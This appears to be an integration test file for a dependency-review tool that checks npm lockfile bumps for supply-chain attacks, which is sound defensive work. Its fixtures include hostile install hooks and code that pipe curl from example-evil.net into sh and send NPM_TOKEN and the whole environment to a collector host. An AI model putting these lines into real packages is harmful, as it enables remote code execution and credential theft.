// The whole pipeline in-process: lockfile pairs -> registry (a real local one) -> analysis -> policy -> Report.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { TarballAnalyzer } from '../../src/checks/code/analysis-pool.js';
import { PackageError } from '../../src/model/errors.js';
import { createRegistryClient } from '../../src/registry/client.js';
import { changeReport, reviewPublished, type ChangeContext } from '../../src/pipeline/review-package.js';
import type { LockfilePair, Change, Report } from '../../src/model/types.js';
import { review } from '../../src/pipeline/review.js';
import { DEFAULT_POLICY, type Policy } from '../../src/policy/config.js';
import { verdictLine } from '../../src/report/verdict-line.js';
import { refactorOnly, wormVictim } from '../fixtures/incidents.js';
import { npmLockV3, type LockEntry } from '../helpers/lockfile-writer.js';
import { writeTar } from '../helpers/tar-writer.js';
import { startTestRegistry, type TestRegistry } from '../helpers/test-registry.js';

let registry: TestRegistry;
let cacheDir: string;
const now = new Date('2024-06-01T00:00:00.000Z');

beforeAll(async () => {
  registry = await startTestRegistry({
    'worm-victim': wormVictim,
    'refactor-only': refactorOnly,
    'mirror-only': {
      omit: ['_npmUser', 'maintainers', 'time'],
      versions: {
        '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
        '1.1.0': { files: { 'index.js': 'module.exports = 2;\n' } },
      },
    },
    'swapped-tarball': {
      versions: {
        '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
        // The registry's recorded checksum is not that of the bytes it serves.
        '1.0.1': { files: { 'index.js': 'module.exports = 2;\n' }, manifest: { dist: { integrity: 'sha512-' + Buffer.alloc(64, 1).toString('base64') } } },
      },
    },
    'outage-pkg': {
      versions: {
        '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
        '1.0.1': { files: { 'index.js': 'module.exports = 2;\n' } },
      },
    },
    'outage-tarball': {
      versions: {
        '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
        '1.0.1': { files: { 'index.js': 'module.exports = 2;\n' } },
      },
    },
    'bomb-like': {
      versions: {
        '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
        // 8 MiB of zeros: far past the narrowed 1 MiB unpacked bound below, from a few KB of gzip.
        '1.0.1': { files: { 'index.js': 'module.exports = 1;\n', 'data.bin': Buffer.alloc(8 * 1024 * 1024) } },
      },
    },
    // What npm runs, hidden where the review used to look away.
    'entry-in-test': {
      versions: {
        '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
        '1.0.1': {
          files: {
            'package.json': JSON.stringify({ name: 'entry-in-test', version: '1.0.1', main: 'test/index.js' }),
            'test/index.js': "require('child_process').exec('curl -s https://get.example-evil.net | sh');\n",
          },
        },
      },
    },
    'big-manifest': {
      versions: {
        '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
        '1.0.1': {
          files: {
            'package.json': JSON.stringify({ name: 'big-manifest', version: '1.0.1', scripts: { postinstall: 'node x.js' }, description: 'd'.repeat(200 * 1024) }),
            'index.js': 'module.exports = 1;\n',
            'x.js': "require('https').get('https://collector.example-evil.net/?t=' + process.env.NPM_TOKEN);\n",
          },
        },
      },
    },
    'empty-archive': {
      versions: {
        '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
        // The end-of-archive marker and nothing else: npm's extractor refuses it, and so does the review.
        '1.0.1': { tarball: gzipSync(Buffer.alloc(1024)) },
      },
    },
    'folder-only-archive': {
      versions: {
        '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
        // A valid archive that installs no file at all.
        '1.0.1': { tarball: gzipSync(writeTar([{ path: 'package/', type: 'dir' }])) },
      },
    },
    'big-js': {
      versions: {
        '1.0.0': { files: { 'package.json': JSON.stringify({ name: 'big-js', version: '1.0.0', main: 'dist/app.js' }), 'dist/app.js': 'module.exports = 1;\n' } },
        '1.0.1': {
          files: {
            'package.json': JSON.stringify({ name: 'big-js', version: '1.0.1', main: 'dist/app.js' }),
            'dist/app.js': `${'var pad = 1;\n'.repeat(16 * 1024)}require('child_process').execSync('id');\n`,
          },
        },
      },
    },
    'bundled-hook': {
      versions: {
        '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
        '1.0.1': {
          files: {
            'package.json': JSON.stringify({ name: 'bundled-hook', version: '1.0.1', bundleDependencies: ['helper'] }),
            'index.js': "module.exports = require('helper');\n",
            'node_modules/helper/package.json': JSON.stringify({ name: 'helper', version: '1.0.0', scripts: { preinstall: 'node docs/setup.js' } }),
            'node_modules/helper/docs/setup.js': "require('https').request({ hostname: 'collector.example-evil.net' }).end(JSON.stringify(process.env));\n",
          },
        },
      },
    },
    'broken-tarball': {
      versions: {
        '1.0.0': { files: { 'index.js': 'module.exports = 1;\n' } },
        '1.0.1': { tarball: Buffer.from('this is not a gzip file at all') },
      },
    },
  });
  cacheDir = mkdtempSync(join(tmpdir(), 'depdiff-review-'));
});

afterAll(async () => {
  await registry?.close();
  rmSync(cacheDir, { recursive: true, force: true });
});

function pair(path: string, before: LockEntry[], after: LockEntry[]): LockfilePair {
  return { path, before: npmLockV3(registry, before), after: npmLockV3(registry, after) };
}

async function run(pairs: LockfilePair[], fetch = true): Promise<Report> {
  return review({ pairs, policy: DEFAULT_POLICY, registry: { registry: registry.url, cacheDir, userConfig: null, retryMinTimeoutMs: 10 }, fetch, now });
}

const byName = (report: Report, name: string) => report.changes.find((change) => change.name === name)!;

test('one hostile tarball becomes an error and a finding; every other package is still reviewed', async () => {
  const report = await run([
    pair(
      'package-lock.json',
      [
        { name: 'broken-tarball', version: '1.0.0' },
        { name: 'refactor-only', version: '2.0.0' },
        { name: 'worm-victim', version: '1.0.0' },
      ],
      [
        { name: 'broken-tarball', version: '1.0.1' },
        { name: 'refactor-only', version: '2.1.0' },
        { name: 'worm-victim', version: '1.0.1' },
      ],
    ),
  ]);
  expect(report.changes).toHaveLength(3);
  expect(report.errors).toEqual([expect.objectContaining({ name: 'broken-tarball', version: '1.0.1' })]);
  expect(byName(report, 'broken-tarball').findings.map((f) => f.kind)).toContain('tarball-anomaly');
  expect(byName(report, 'worm-victim').worst).toBe('critical');
  expect(byName(report, 'refactor-only').findings).toEqual([]);
  expect(report.verdict).toBe('fail');
  expect(report.counts.critical).toBeGreaterThan(0);
});

test('a gzip bomb is a critical finding and an error entry; the review of the rest completes', async () => {
  const report = await review({
    pairs: [
      pair(
        'package-lock.json',
        [{ name: 'bomb-like', version: '1.0.0' }, { name: 'worm-victim', version: '1.0.0' }],
        [{ name: 'bomb-like', version: '1.0.1' }, { name: 'worm-victim', version: '1.0.1' }],
      ),
    ],
    policy: DEFAULT_POLICY,
    registry: { registry: registry.url, cacheDir, userConfig: null },
    extractLimits: { maxUnpackedBytes: 1024 * 1024 },
    now,
  });
  const bomb = byName(report, 'bomb-like');
  expect(bomb.findings).toEqual(expect.arrayContaining([expect.objectContaining({ kind: 'tarball-anomaly', severity: 'critical' })]));
  expect(report.errors).toEqual([expect.objectContaining({ name: 'bomb-like', version: '1.0.1', code: 'ELIMIT' })]);
  expect(byName(report, 'worm-victim').worst).toBe('critical');
});

test('a new version that outgrows the download limit is high; one that was always too big is medium', async () => {
  const limited = (maxTarballBytes: number) =>
    review({
      pairs: [pair('package-lock.json', [{ name: 'bomb-like', version: '1.0.0' }], [{ name: 'bomb-like', version: '1.0.1' }])],
      policy: DEFAULT_POLICY,
      registry: { registry: registry.url, cacheDir: mkdtempSync(join(tmpdir(), 'depdiff-limit-')), userConfig: null, maxTarballBytes },
      now,
    });
  const grew = await limited(2000);
  expect(byName(grew, 'bomb-like').findings).toEqual([expect.objectContaining({ key: 'tarball-anomaly:too-large', severity: 'high' })]);
  const always = await limited(50);
  expect(byName(always, 'bomb-like').findings).toEqual([expect.objectContaining({ key: 'tarball-anomaly:too-large', severity: 'medium' })]);
  expect(always.errors.map((e) => e.code)).toEqual(['ELIMIT', 'ELIMIT']);
});

test('an advisory from the registry bulk endpoint that covers only the new version is a finding with its link', async () => {
  registry.setAdvisories({
    'refactor-only': [
      { id: 1099, url: 'https://github.com/advisories/GHSA-aaaa-bbbb-cccc', title: 'Malware in refactor-only', severity: 'critical', vulnerable_versions: '>=2.1.0', cwe: ['CWE-506'] },
      { id: 1100, url: 'https://github.com/advisories/GHSA-dddd-eeee-ffff', title: 'Old bug', severity: 'high', vulnerable_versions: '<2.1.0' },
    ],
  });
  try {
    const report = await run([pair('package-lock.json', [{ name: 'refactor-only', version: '2.0.0' }], [{ name: 'refactor-only', version: '2.1.0' }])]);
    const bulk = registry.requests.filter((r) => r.path.startsWith('/-/npm/v1/security/advisories/bulk'));
    expect(bulk.length).toBeGreaterThan(0);
    expect(byName(report, 'refactor-only').findings).toEqual([
      expect.objectContaining({ kind: 'vulnerability', severity: 'critical', url: 'https://github.com/advisories/GHSA-aaaa-bbbb-cccc' }),
    ]);
  } finally {
    registry.setAdvisories({});
  }
});

test('a registry that omits metadata fields yields one note per check, and no guessed finding', async () => {
  const report = await run([
    pair('package-lock.json', [{ name: 'mirror-only', version: '1.0.0' }], [{ name: 'mirror-only', version: '1.1.0' }]),
  ]);
  expect(byName(report, 'mirror-only').findings).toEqual([]);
  expect(report.notes.some((n) => /_npmUser/.test(n))).toBe(true);
  expect(new Set(report.notes).size).toBe(report.notes.length);
  expect(report.verdict).toBe('pass');
});

test('the same bump in two lockfiles is fetched once and reported in both, each finding naming its own lockfile', async () => {
  const gitDep: LockEntry = { name: 'from-git', version: '1.0.0', resolved: 'git+ssh://git@github.com/someone/from-git.git#0123456789abcdef', integrity: null };
  const bump = (path: string) => pair(path, [{ name: 'refactor-only', version: '2.0.0' }], [{ name: 'refactor-only', version: '2.1.0' }, gitDep]);
  const tarballsBefore = registry.requests.filter((r) => r.path.endsWith('.tgz')).length;
  const report = await review({
    pairs: [bump('a/package-lock.json'), bump('b/package-lock.json')],
    policy: DEFAULT_POLICY,
    registry: { registry: registry.url, cacheDir: mkdtempSync(join(tmpdir(), 'depdiff-cold-')), userConfig: null },
    now,
  });
  const tarballRequests = registry.requests.filter((r) => r.path.endsWith('.tgz')).length - tarballsBefore;
  expect(tarballRequests).toBe(2);
  const refactors = report.changes.filter((c) => c.name === 'refactor-only');
  expect(refactors.map((c) => c.lockfile)).toEqual(['a/package-lock.json', 'b/package-lock.json']);
  const gitFindings = report.changes.filter((c) => c.name === 'from-git').map((c) => c.findings.find((f) => f.kind === 'non-registry-source')?.file);
  expect(gitFindings).toEqual(['a/package-lock.json', 'b/package-lock.json']);
});

test('a failure of the same bump in two lockfiles is one error entry, and both changes carry its finding', async () => {
  const bump = (path: string) => pair(path, [{ name: 'broken-tarball', version: '1.0.0' }], [{ name: 'broken-tarball', version: '1.0.1' }]);
  const report = await run([bump('a/package-lock.json'), bump('b/package-lock.json')]);
  expect(report.changes.map((c) => [c.lockfile, c.findings.some((f) => f.kind === 'tarball-anomaly')])).toEqual([
    ['a/package-lock.json', true],
    ['b/package-lock.json', true],
  ]);
  expect(report.errors).toEqual([expect.objectContaining({ name: 'broken-tarball', version: '1.0.1' })]);
});

test('a lockfile integrity that differs from the registry is a critical finding, not a crash', async () => {
  const tampered = 'sha512-' + Buffer.alloc(64, 7).toString('base64');
  const report = await run([
    pair('package-lock.json', [{ name: 'refactor-only', version: '2.0.0' }], [{ name: 'refactor-only', version: '2.1.0', integrity: tampered }]),
  ]);
  const findings = byName(report, 'refactor-only').findings;
  // One finding for one cause, and the code the registry serves is still reviewed (no error entry).
  expect(findings.filter((f) => f.kind === 'integrity-mismatch')).toEqual([expect.objectContaining({ severity: 'critical', key: 'integrity-mismatch:registry' })]);
  expect(report.errors).toEqual([]);
});

test('a tarball that does not match the checksum the registry publishes is a critical finding and an error', async () => {
  const entries = (version: string): LockEntry[] => [{ name: 'swapped-tarball', version, integrity: registry.integrity('swapped-tarball', version) }];
  const report = await run([pair('package-lock.json', entries('1.0.0'), entries('1.0.1'))]);
  const findings = byName(report, 'swapped-tarball').findings;
  // The served bytes disagree with the registry's checksum, and so does the lockfile (which holds the bytes' hash).
  expect(findings.map((f) => [f.key, f.severity]).sort()).toEqual([
    ['integrity-mismatch:registry', 'critical'],
    ['integrity-mismatch:tarball', 'critical'],
  ]);
  const tarballFinding = findings.find((f) => f.key === 'integrity-mismatch:tarball')!;
  expect(tarballFinding.message).toContain('does not match the checksum the registry publishes');
  expect(tarballFinding.evidence).toMatch(/^expected sha512-AQEB.*got sha512-/);
  expect(report.errors).toEqual([expect.objectContaining({ name: 'swapped-tarball', code: 'EINTEGRITY' })]);
});

test("the base lockfile's own registry host is trusted; a new host that a pull request brings in is not", async () => {
  const corp = (name: string, version = '1.0.0'): LockEntry => ({
    name,
    version,
    resolved: `https://npm.corp.example/api/npm/${name}/-/${name}-${version}.tgz`,
    integrity: 'sha512-' + Buffer.alloc(64, name.length).toString('base64'),
  });
  const base = [corp('alpha'), corp('bravo'), corp('charlie'), corp('delta')];
  const report = await run(
    [
      pair('package-lock.json', base, [
        ...base,
        corp('echo'),
        { ...corp('foxtrot'), resolved: 'https://npm.attacker.example/foxtrot/-/foxtrot-1.0.0.tgz' },
      ]),
    ],
    false,
  );
  expect(byName(report, 'echo').findings).toEqual([]);
  expect(byName(report, 'foxtrot').findings).toEqual([
    expect.objectContaining({ kind: 'non-registry-source', severity: 'high', evidence: expect.stringContaining('npm.attacker.example') }),
  ]);
});

test('a registry outage is an error entry, never a guessed "unpublished" finding', async () => {
  registry.failNext('/outage-pkg', 503, 1000);
  const report = await review({
    pairs: [pair('package-lock.json', [{ name: 'outage-pkg', version: '1.0.0' }], [{ name: 'outage-pkg', version: '1.0.1' }])],
    policy: DEFAULT_POLICY,
    registry: { registry: registry.url, cacheDir: mkdtempSync(join(tmpdir(), 'depdiff-outage-')), userConfig: null, retries: 1, retryMinTimeoutMs: 10 },
    now,
  });
  expect(byName(report, 'outage-pkg').findings).toEqual([]);
  expect(report.errors).toEqual([expect.objectContaining({ name: 'outage-pkg', version: '1.0.1', code: 'EFETCH' })]);
  // Nobody read the new version: the check must not be green.
  expect(report.verdict).toBe('fail');
  expect(report.incomplete).toBe(1);
});

describe('fail closed: a package that could not be reviewed fails the verdict', () => {
  const tarballOutage = (policy: Policy) => {
    // Every try of the new tarball answers 500: retries are exhausted.
    registry.failNext('/outage-tarball/-/outage-tarball-1.0.1.tgz', 500, 1000);
    return review({
      pairs: [pair('package-lock.json', [{ name: 'outage-tarball', version: '1.0.0' }], [{ name: 'outage-tarball', version: '1.0.1' }])],
      policy,
      registry: { registry: registry.url, cacheDir: mkdtempSync(join(tmpdir(), 'depdiff-incomplete-')), userConfig: null, retries: 1, retryMinTimeoutMs: 10 },
      now,
    });
  };

  test('a tarball the registry keeps failing: fail, and the verdict line says why and what to do', async () => {
    const report = await tarballOutage(DEFAULT_POLICY);
    expect(byName(report, 'outage-tarball').findings).toEqual([]);
    expect(report.errors).toEqual([expect.objectContaining({ name: 'outage-tarball', version: '1.0.1', code: 'EFETCH', message: expect.stringContaining('after retries (E500)') })]);
    expect(report.verdict).toBe('fail');
    expect(report.incomplete).toBe(1);
    expect(report.allowIncomplete).toBe(false);
    const line = verdictLine(report);
    expect(line).toMatch(/^❌ \*\*Fail\*\*: 0 critical, 0 high/);
    expect(line).toContain('. ❌ incomplete: 1 package could not be reviewed. The registry failed after retries or refused access: re-run the job, and for a private registry set the registry');
    expect(verdictLine(report, 'plain')).toMatch(/^fail: .*\. incomplete: 1 package could not be reviewed\. The registry failed/);
  });

  test('with allow-incomplete the verdict passes and the verdict line still says it', async () => {
    const report = await tarballOutage({ ...DEFAULT_POLICY, allowIncomplete: true });
    expect(report.errors).toEqual([expect.objectContaining({ name: 'outage-tarball', code: 'EFETCH' })]);
    expect(report.verdict).toBe('pass');
    expect(report.incomplete).toBe(1);
    expect(verdictLine(report)).toMatch(/^✅ \*\*Pass\*\*: .*\. ⚠️ 1 package could not be reviewed \(allowed by allow-incomplete\)\.$/);
  });

  test('a registry without the bulk advisory endpoint (405) is a note, and the verdict passes', async () => {
    registry.failNext('/-/npm/v1/security/advisories/bulk', 405, 1);
    const report = await run([pair('package-lock.json', [{ name: 'refactor-only', version: '2.0.0' }], [{ name: 'refactor-only', version: '2.1.0' }])]);
    expect(report.notes).toEqual(expect.arrayContaining([expect.stringMatching(/vulnerability check could not run/)]));
    expect(report.errors).toEqual([]);
    expect(report.incomplete).toBe(0);
    expect(report.verdict).toBe('pass');
    expect(verdictLine(report)).not.toContain('could not be reviewed');
  });
});

test('a package the asked registry lacks but the lockfile resolves from another host is a set-up gap, not a finding', async () => {
  const elsewhere = (version: string): LockEntry => ({
    name: 'internal-only',
    version,
    resolved: `https://npm.corp.example/internal-only/-/internal-only-${version}.tgz`,
    integrity: 'sha512-' + Buffer.alloc(64, 3).toString('base64'),
  });
  const report = await run([pair('package-lock.json', [elsewhere('1.0.0')], [elsewhere('1.1.0')])]);
  expect(byName(report, 'internal-only').findings).toEqual([]);
  expect(report.errors).toEqual([expect.objectContaining({ name: 'internal-only', code: 'E404', message: expect.stringContaining('npm.corp.example') })]);
  expect(report.notes.some((n) => n.includes('npm.corp.example') && n.includes('--registry'))).toBe(true);
  // Its code was never read: fail, and say to configure the registry.
  expect(report.verdict).toBe('fail');
  expect(verdictLine(report)).toContain('Not found on the registry depdiff used: set the registry the lockfile resolves from');
});

test('--no-fetch reviews the lockfiles alone without any request', async () => {
  const before = registry.requests.length;
  const report = await run(
    [pair('package-lock.json', [{ name: 'worm-victim', version: '1.0.0' }], [{ name: 'worm-victim', version: '1.0.1' }, { name: 'lodahs', version: '1.0.0', resolved: 'https://registry.npmjs.org/lodahs/-/lodahs-1.0.0.tgz', integrity: 'sha512-AAAA' }])],
    false,
  );
  expect(registry.requests.length).toBe(before);
  expect(byName(report, 'lodahs').findings.map((f) => f.kind)).toContain('typosquat');
  expect(byName(report, 'worm-victim').type).toBe('updated');
});

test('what npm runs is reviewed wherever it lives, and what could not be read is a finding, never silence', async () => {
  const names = ['entry-in-test', 'big-manifest', 'empty-archive', 'folder-only-archive', 'big-js', 'bundled-hook'];
  const report = await review({
    pairs: [pair('package-lock.json', names.map((name) => ({ name, version: '1.0.0' })), names.map((name) => ({ name, version: '1.0.1' })))],
    policy: DEFAULT_POLICY,
    registry: { registry: registry.url, cacheDir, userConfig: null },
    // A text limit below the manifest and the bundle, as the 64 MiB limit is below a giant bundle: their bytes go unread.
    extractLimits: { maxTextFileBytes: 64 * 1024 },
    now,
  });
  const high = (name: string) => byName(report, name).findings.filter((f) => f.severity === 'high' || f.severity === 'critical');
  // `main` in a folder of tests (one new capability in readable code: a medium notice, but reported).
  expect(byName(report, 'entry-in-test').findings).toEqual(expect.arrayContaining([expect.objectContaining({ kind: 'shell', file: 'test/index.js' })]));
  // A package.json past the text limit: its install script was never read, so the manifest itself is a high finding.
  expect(high('big-manifest')).toEqual(expect.arrayContaining([expect.objectContaining({ key: 'tarball-anomaly:manifest-unreadable', file: 'package.json' })]));
  expect(high('empty-archive')).toEqual([expect.objectContaining({ key: 'tarball-anomaly:unreadable' })]);
  expect(high('folder-only-archive')).toEqual([expect.objectContaining({ key: 'tarball-anomaly:empty' })]);
  // The harmful call sits past the text limit, in the file `main` names: unread bytes that npm runs are high.
  expect(high('big-js')).toEqual([expect.objectContaining({ key: expect.stringMatching(/^tarball-anomaly:unreviewed:/), file: 'dist/app.js' })]);
  expect(high('bundled-hook')).toEqual(
    expect.arrayContaining([expect.objectContaining({ kind: 'install-script', file: 'node_modules/helper/package.json', severity: 'critical' })]),
  );
  expect(report.verdict).toBe('fail');
});

test('a package whose analysis fails (crash, out of memory, time limit) is an error entry and a high finding', async () => {
  const client = createRegistryClient({ registry: registry.url, cacheDir, userConfig: null });
  const failing: TarballAnalyzer = {
    mode: 'workers',
    workersStarted: 0,
    analyze: () => Promise.reject(new PackageError('ETIMEOUT', 'analysis took longer than 120 s and was stopped')),
    close: async () => undefined,
  };
  const ctx: ChangeContext = {
    client,
    fetch: true,
    now,
    cooldownHours: 0,
    allowedHosts: () => [],
    advisories: Promise.resolve(null),
    note: () => undefined,
    analyzer: failing,
  };
  const lock = (version: string) => ({ name: 'refactor-only', version, source: 'registry' as const, direct: true, dev: false, optional: false, paths: ['node_modules/refactor-only'], resolved: registry.tarballUrl('refactor-only', version) });
  const change: Change = { name: 'refactor-only', from: '2.0.0', to: '2.1.0', type: 'updated', direct: true, dev: false, lockfile: 'package-lock.json', before: lock('2.0.0'), after: lock('2.1.0') };
  const published = await reviewPublished(change, ctx);
  expect(published.errors).toEqual([expect.objectContaining({ name: 'refactor-only', version: '2.1.0', code: 'ETIMEOUT' })]);
  expect(changeReport(change, ctx, published).findings).toEqual([
    expect.objectContaining({ key: 'tarball-anomaly:analysis-failed', severity: 'high', message: expect.stringContaining('refactor-only@2.1.0 could not be reviewed (analysis took longer than 120 s') }),
  ]);
});

test('an added package with findings carries its description from the packument; an update does not', () => {
  const ctx = { client: { registryFor: () => 'https://registry.npmjs.org/' }, fetch: false, allowedHosts: () => [] } as unknown as ChangeContext;
  const lock = (version: string) => ({ name: 'new-helper', version, source: 'registry' as const, direct: false, dev: false, optional: false, paths: ['node_modules/new-helper'] });
  const packument = { name: 'new-helper', versions: { '1.0.0': { name: 'new-helper', version: '1.0.0', description: 'Helps with <things> @everyone' } } };
  const fact = { key: 'network:module:https', kind: 'network' as const, severity: 'medium' as const, detail: 'loads https' };
  const added: Change = { name: 'new-helper', from: null, to: '1.0.0', type: 'added', direct: false, dev: false, lockfile: 'package-lock.json', after: lock('1.0.0') };
  expect(changeReport(added, ctx, { facts: [fact], errors: [], packument }).description).toBe('Helps with <things> @everyone');
  expect(changeReport(added, ctx, { facts: [], errors: [], packument })).not.toHaveProperty('description');
  const updated: Change = { ...added, from: '0.9.0', type: 'updated', before: lock('0.9.0') };
  expect(changeReport(updated, ctx, { facts: [fact], errors: [], packument })).not.toHaveProperty('description');
});
